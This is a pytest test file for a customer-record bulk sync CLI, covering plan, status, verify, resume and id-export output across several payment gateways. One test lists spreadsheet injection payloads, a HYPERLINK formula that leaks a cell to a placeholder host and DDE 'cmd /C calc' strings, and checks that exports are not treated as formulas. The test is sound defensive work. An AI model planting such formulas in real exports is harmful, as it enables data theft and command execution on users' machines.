"""Output of ``plan``, ``status``, ``verify`` and ``migrate``, and errors of bulk commands."""

import csv
import re
from pathlib import Path

import pytest
from bulk.customers import write_csv
from cli.conftest import Command, Terminal

from wonder_customers.bulk import Journal, sources
from wonder_customers.cli import progress
from wonder_customers.cli.exit_codes import FAILED, STOPPED, SUCCESS, USAGE
from wonder_customers.dialects import names


def test_plan_names_changed_fields(terminal: Terminal) -> None:
    terminal.sync("monri")
    terminal.change("Ada Nr 1 v1", "Eve")
    terminal.change("ada.1@example.com", "eve@example.com")
    text = terminal.ends(SUCCESS, "plan", "c.csv", "--to", "monri", "--journal", "another")
    assert re.search("row 2, c-1: (email, name|name, email) would change", text)


@pytest.mark.parametrize("gateway", names())
def test_emptied_cell_is_planned_cleared_and_verified(gateway: str, terminal: Terminal) -> None:
    write_csv(terminal.folder / "c.csv", 2)
    words = ("c.csv", "--to", gateway)
    terminal.ends(SUCCESS, "sync", *words, "--workers", "1")
    terminal.change("ada.1@example.com", "")
    assert "clears email: 1" in terminal.ends(SUCCESS, "plan", *words)
    assert "clears" not in terminal.ends(SUCCESS, "plan", *words, "--empty", "keep")
    text = terminal.ends(SUCCESS, "sync", *words)
    assert "Fields cleared because their cells are empty: email (1)" in text
    terminal.ends(SUCCESS, "verify", f"c.csv.{gateway}.journal")
    assert [bool(it.get("email")) for it in terminal.server.store.customers(gateway)] == [True, False]


def test_plan_counts_unconfirmed_rows(terminal: Terminal) -> None:
    journal = Journal.existing(terminal.folder / terminal.sync("wonder", 1))
    journal._execute("UPDATE rows SET state = ?", ["sending"])
    write_csv(terminal.folder / "c.csv", 2, version="2")
    text = terminal.ends(SUCCESS, "plan", "c.csv", "--to", "wonder", "--journal", str(journal.path))
    assert "Unconfirmed rows of an earlier run, which will be looked up before they are sent: 1." in text


def test_status_shows_failures_and_the_next_command(terminal: Terminal) -> None:
    write_csv(terminal.folder / "c.csv", 30)
    terminal.server.faults.add("server_error", times=None, status=400, method="POST")
    terminal.ends(STOPPED, "sync", "c.csv", "--to", "wonder", "--max-failures", "3")
    text = terminal.ends(SUCCESS, "status", "c.csv.wonder.journal")
    assert "failed rows by reason" in text
    assert "run 1: failures" in text
    assert "To continue, run: wonder-customers resume c.csv.wonder.journal" in text


def write_without_phones(terminal: Terminal) -> None:
    lines = ["reference,name,email,phone", *(f"c-{number},Ada,a@example.com,none" for number in range(60))]
    (terminal.folder / "c.csv").write_text("\n".join(lines), encoding="utf-8")


def test_status_names_sync_if_rows_could_not_be_sent(terminal: Terminal) -> None:
    write_without_phones(terminal)
    text = terminal.ends(FAILED, "plan", "c.csv", "--to", "monri")
    assert "`sync` would stop early, after 0 requests." in text
    assert "`sync` would stop: 60 of 60 rows cannot be sent" in text
    assert "stopped: too many rows are invalid" in terminal.ends(STOPPED, "sync", "c.csv", "--to", "monri")
    text = terminal.ends(SUCCESS, "status", "c.csv.monri.journal")
    assert "c.csv.monri.journal (monri): no row was sent" in text
    assert "run the same `sync` or `migrate` again" in text
    assert "wonder-customers resume" not in text


def test_verify_sample_prints_a_confidence_interval(terminal: Terminal) -> None:
    text = terminal.ends(SUCCESS, "verify", terminal.sync("monri", 20), "--sample", "10")
    assert "10 of 20 rows were read back" in text
    assert "Between 0.00% and 27.75% of all rows differ (95% confidence)." in text


def test_migrate_counts_customers_that_cannot_be_sent(terminal: Terminal) -> None:
    rows = [
        "reference,name,email,phone",
        f"m-1,{'Ada' * 20},a@example.com,+385 91 234 5678",  # longer than the 50 characters that Monri accepts
        "m-2,Eve,e@example.com,+385 91 234 5678",
    ]
    (terminal.folder / "m.csv").write_text("\n".join(rows) + "\n")
    terminal.ends(SUCCESS, "sync", "m.csv", "--to", "paydock")
    nameless = "UPDATE customers SET reference = NULL, body = json_remove(body, '$.reference') WHERE reference = 'm-2'"
    terminal.server.store._connection.execute(nameless).close()
    text = terminal.ends(USAGE, "migrate", "--from", "paydock", "--to", "monri")
    assert "fields whose value monri does not accept" in text
    assert "Customers that cannot be sent, because they have no reference: 1." in text


@pytest.mark.parametrize("words", ["plan c.csv --to monri", "sync c.csv --to monri", "columns c.csv"])
def test_detected_encoding_is_printed(words: str, terminal: Terminal) -> None:
    (terminal.folder / "c.csv").write_bytes("reference,name\nh-1,Ana Marić\nh-2,Željko Šćepanović\n".encode("cp1250"))
    assert "c.csv was read as cp1250." in terminal.ends(SUCCESS, *words.split(), "--encoding", "detect")


def test_ids_are_exported_as_csv(terminal: Terminal) -> None:
    journal = terminal.sync("monri")
    code, out, _ = terminal.run("ids", journal)
    rows = list(csv.DictReader(out.splitlines()))
    assert (code, [row["reference"] for row in rows]) == (SUCCESS, ["c-0", "c-1", "c-2"])
    assert all(row["id"] and row["state"] == "done" and row["time"].endswith("+00:00") for row in rows)
    assert terminal.run("ids", journal, "-o", "ids.csv") == (SUCCESS, "", "3 ids were written to ids.csv.\n")
    assert (terminal.folder / "ids.csv").read_text(encoding="utf-8").splitlines() == out.splitlines()
    assert "ids.csv already exists" in terminal.ends(USAGE, "ids", journal, "-o", "ids.csv")


FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "=1*1", "\uff1d1+1",
]  # fmt: skip
NO_FORMULAS = ["+385 91 234-567", "-12", "c-1", "O'Neil"]


def test_exported_references_are_no_formulas(terminal: Terminal) -> None:
    with (terminal.folder / "c.csv").open("w", encoding="utf-8", newline="") as file:
        references = [*(f"'{it}" for it in FORMULAS), *NO_FORMULAS]
        csv.writer(file).writerows([["reference", "name"], *([it, "Ada Lovelace"] for it in references)])
    exported = terminal.folder / "ids.csv"
    terminal.ends(SUCCESS, "sync", "c.csv", "--to", "monri")
    terminal.ends(SUCCESS, "ids", "c.csv.monri.journal", "-o", "ids.csv")
    written = [row["reference"] for row in csv.DictReader(exported.read_text("utf-8").splitlines())]
    assert sorted(written) == sorted([f"'{it}" for it in FORMULAS] + NO_FORMULAS)
    assert {row.reference for row in sources.read(exported, unknown="ignore")} == {*FORMULAS, *NO_FORMULAS}
    terminal.ends(SUCCESS, "forget", "c.csv.monri.journal", "--", "-2+3")
    assert "-2+3" not in exported.read_text("utf-8")


READING = pytest.mark.parametrize("name", ["resume", "verify", "retry-failed"])


@READING
def test_journal_without_a_run_is_refused(name: str, terminal: Terminal) -> None:
    Journal.open(terminal.folder / "j", gateway="monri", endpoint="https://example.com/")
    assert "j contains no run. Start a run with `sync` or `migrate`." in terminal.ends(USAGE, name, "j")


@READING
def test_missing_source_of_a_journal_is_named_with_the_option(name: str, terminal: Terminal) -> None:
    journal = terminal.sync("monri", 1)
    (terminal.folder / "c.csv").rename(terminal.folder / "d.csv")
    assert "pass its path with --source." in terminal.ends(USAGE, name, journal)
    given = () if name == "verify" else ("--allow-changed",)
    terminal.ends(SUCCESS, name, journal, "--source", "d.csv", *given)


@pytest.mark.parametrize("journal", [(), ("--journal", "j")])
def test_stopped_job_at_a_simulator_names_a_command_only_for_a_kept_journal(
    journal: tuple[str, ...], terminal: Terminal
) -> None:
    write_without_phones(terminal)
    text = terminal.ends(STOPPED, "sync", "c.csv", "--to", "paydock", "--simulator", *journal)
    assert "cannot be sent for the same reason" in text
    assert ("run the same `sync` or `migrate` again" in text) is bool(journal)
    assert "wonder-customers resume" not in text


def test_resume_refuses_a_run_that_a_program_or_migrate_started(terminal: Terminal) -> None:
    journal = Journal.open(terminal.folder / "j", gateway="wonder", endpoint="https://example.com/")
    journal.begin({})
    journal.release()
    assert "j was started by a program, which did not record its source" in terminal.ends(USAGE, "resume", "j")
    journal.begin({"migrate": "paydock"})
    journal.release()
    command = "To continue, run: wonder-customers migrate --from paydock --to wonder --journal j"
    for code, name in ((SUCCESS, "status"), (USAGE, "resume")):
        assert command in terminal.ends(code, name, "j")


def test_resume_refuses_another_source_or_endpoint(terminal: Terminal) -> None:
    journal = terminal.sync("monri", 1)
    for option, value in {"--query": "SELECT * FROM source", "--database": "sqlite:///x"}.items():
        text = terminal.ends(USAGE, "resume", journal, option, value)
        assert f"the earlier run had no {option}. Remove the option" in text
    text = terminal.ends(USAGE, "resume", journal, MONRI_BASE_URL="https://ipgtest.monri.com/")
    assert f"is the journal of monri at {terminal.server.origin}, not of monri at https://ipgtest.monri.com/" in text


def test_forget_keeps_bytes_that_are_not_utf_8(terminal: Terminal) -> None:
    journal, kept = terminal.sync("monri", 1), b"reference,id,state,time\r\n\xff,1,done,\r\n"
    (terminal.folder / "ids.csv").write_bytes(kept + b"c-0,2,done,\r\n")
    assert "1 entry was removed from" in terminal.ends(SUCCESS, "forget", journal, "c-0")
    assert (terminal.folder / "ids.csv").read_bytes() == kept


def test_journal_of_another_merchant_is_refused_until_the_credentials_are_confirmed(terminal: Terminal) -> None:
    write_csv(terminal.folder / "c.csv", 3)
    terminal.ends(SUCCESS, "sync", "c.csv", "--to", "paydock", "--first", "2")
    journal, paydock = "c.csv.paydock.journal", terminal.server.gateways["paydock"]
    other, sent = paydock.add_merchant(terminal.server.origin), terminal.server.store.requests.copy()
    for words in (
        *((name, "c.csv", "--to", "paydock") for name in ("sync", "plan")),
        *((name, journal) for name in ("resume", "retry-failed", "verify")),
        ("migrate", "--from", "monri", "--to", "paydock", "--journal", journal),
    ):
        assert f"{journal} is the journal of another paydock account" in terminal.ends(USAGE, *words, **other)
    assert terminal.server.store.requests == sent
    renewed = paydock.renew_credentials(terminal.server.origin)
    terminal.ends(USAGE, "resume", journal, **renewed)
    terminal.ends(SUCCESS, "plan", "c.csv", "--to", "paydock", "--renewed-credentials", **renewed)
    assert "adds up" in terminal.ends(SUCCESS, "resume", journal, **renewed)


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        pytest.param(
            "--shared-limit redis://127.0.0.1:1 --on ray --rate 5",
            "--shared-limit cannot be used with --on",
            marks=pytest.mark.long,  # importing Ray takes seconds
        ),
        ("--shared-limit redis://127.0.0.1:1", "--shared-limit requires --rate"),
        ("--on ray --simulator", "Run `wonder-customers simulator`"),
    ],
)
def test_invalid_option_for_several_processes_is_refused(words: str, expected: str, terminal: Terminal) -> None:
    pytest.importorskip("redis", reason="needs the extra shared-limit")
    if "ray" in words:
        pytest.importorskip("ray", reason="needs the extra ray")
    write_csv(terminal.folder / "c.csv", 1)
    assert expected in terminal.ends(USAGE, "sync", "c.csv", "--to", "monri", *words.split())


def test_terminal_shows_a_progress_bar(terminal: Terminal) -> None:
    write_csv(terminal.folder / "c.csv", 40)
    terminal.server.faults.add("rate_limited", gateway="paydock", times=2)
    terminal.server.faults.add("server_error", gateway="paydock", status=400, times=2, method="POST")
    words, colour = (
        ("sync", "c.csv", "--to", "paydock", "--rate", "40/s"),
        {"FORCE_COLOR": "1", "TERM": "xterm-256color"},
    )
    code, out, err = terminal.run(*words, **colour)
    assert (code, "adds up" in out) == (FAILED, True)
    expected = ("\x1b[", "c.csv → paydock", " rows · ", "/s", " left", " rejected (HTTP 429)", " failed")
    assert [it for it in expected if it not in err] == []


def test_progress_bar_omits_unknown_values() -> None:
    unknown = dict.fromkeys(("rows_per_second", "p50", "p95", "seconds_left"))
    zero = {"rows": 0, "throttled": 0, "faults": 0, "failed": 0}
    assert progress._format_facts({**zero, **unknown}) == "0 rows"
    known = {"rows_per_second": 12.4, "p50": 0.05, "p95": 0.2, "seconds_left": 200}
    assert progress._format_facts({"rows": 1234, "throttled": 5, "faults": 0, "failed": 6, **known}) == (
        "1,234 rows · 12/s · 3 min 20 s left · 6 failed · 5 rejected (HTTP 429)"
    )
    # The gateway does not process requests.
    facts = {**zero, **unknown, "rows": 7, "rows_per_second": 0.0, "faults": 432}
    assert progress._format_facts(facts) == "7 rows · 0/s · 432 failed requests (retried)"


def test_plan_and_sync_count_skipped_and_incomplete_lines(terminal: Terminal) -> None:
    lines = ["reference,name,email", "c-1,Ada", "reference,name,email", "Total,,", "", "c-2,Bo,bo@example.org"]
    (terminal.folder / "c.csv").write_text("\n".join(lines))
    for command in ("plan", "sync"):
        text = terminal.ends(SUCCESS, command, "c.csv", "--to", "monri")
        assert "Skipped 1 line after the table, such as a total." in text
        assert "Skipped 1 line that repeats the column names." in text
        assert "1 row has fewer values than columns. The missing values are read as empty cells." in text
        assert "Rows follow a blank line in 1 place. Check that they do not belong to another table." in text
        assert "1 file ends without a line break. If a file is not complete, its last value may be cut off." in text


@pytest.mark.parametrize("options", [("--unsupported", "metadata"), ("--unsupported", "ignore"), ()])
def test_fields_that_the_gateway_does_not_have_are_named(options: tuple[str, ...], terminal: Terminal) -> None:
    names = "reference,name,phone,description,address.city" if options else "reference,name,phone,Notiz,Stadt"
    (terminal.folder / "c.csv").write_text(f"{names}\nc-1,Ada,+385912345678,note,Zagreb\n")
    for command in ("plan", "sync"):
        text = terminal.ends(SUCCESS, command, "c.csv", "--to", "wonder", *options)
        assert text.count("does not have these fields, so they are left out: description, address.city.") == 1
    assert "so they are left out" not in terminal.ends(SUCCESS, "sync", "c.csv", "--to", "monri", *options)


def test_plan_names_the_option_for_national_phones(terminal: Terminal) -> None:
    (terminal.folder / "c.csv").write_text("reference,name,phone\nc-1,Ada,091 234 5678\n")
    words = ("plan", "c.csv", "--to", "monri")
    assert (
        "phone: no calling code in 1 number, such as 999 999 9999, because the row has no country. To add the code,"
        " run `sync` with --default-country and the country, such as HR."
    ) in terminal.ends(SUCCESS, *words)
    assert "calling code" not in terminal.ends(SUCCESS, *words, "--default-country", "HR")


def test_resume_advises_sync_for_options_that_it_does_not_have(terminal: Terminal) -> None:
    rows = [f"c-{number},Žarko,091 234 567{number}" for number in range(4)]
    (terminal.folder / "c.csv").write_text("\n".join(["reference,name,phone", *rows]), encoding="cp1250")
    terminal.ends(SUCCESS, "sync", "c.csv", "--to", "monri", "--encoding", "detect", "--first", "2")
    text = terminal.ends(SUCCESS, "resume", "c.csv.monri.journal")
    assert "If words look wrong, run `sync` with --encoding and the correct encoding." in text
    assert "To add the code, run `sync` with --default-country and the country, such as HR." in text


def test_plan_and_verify_count_the_entries_that_they_do_not_list(terminal: Terminal) -> None:
    journal, plan = terminal.sync("monri", 25), ("plan", "c.csv", "--to", "monri")
    terminal.change("Ada Nr", "Eve Nr")
    assert "and 5 more customers that would change" in terminal.run(*plan, "--journal", "another")[1]
    assert "and 5 more rows with a difference or without a comparison" in terminal.run("verify", journal)[1]
    lines = "".join(f"d-{number},Ada,none\n" for number in range(21))
    (terminal.folder / "c.csv").write_text(f"reference,name,email\n{lines}")
    out = terminal.run(*plan)[1]
    assert out.count("the value is not an e-mail address") == 5
    assert "and 16 more rows that cannot be sent" in out
    assert re.search(r"by reason\n.*\n│ invalid email │ 21 │\n", out)
    assert "and 5 more customers missing from the source" in out


def test_metadata_is_proposed_only_for_gateways_with_metadata(terminal: Terminal) -> None:
    (terminal.folder / "c.csv").write_text("reference,name,phone,metadata.vip\nc-1,Ada,+385 91 234 5678,yes\n")
    text = terminal.ends(USAGE, "plan", "c.csv", "--to", "wonder")
    assert "--unsupported metadata" not in text
    assert "Leave them out with --unsupported ignore." in text


@pytest.mark.parametrize("gateway", names())
def test_columns_of_a_gateway_need_no_credentials(gateway: str, command: Command, folder: Path) -> None:
    (folder / "c.csv").write_text("reference,name\nc-1,Ada\n")
    code, out, err = command("columns", "c.csv", "--to", gateway)
    assert (code, "Axx" in out, err) == (SUCCESS, True, "")
    (folder / "c.csv").write_text("reference,name,metadata.tier\nc-1,Ada,gold\n")
    code, _, err = command("columns", "c.csv", "--to", gateway)
    assert (code, "does not have these fields" in err) == ((USAGE, True) if gateway == "wonder" else (SUCCESS, False))
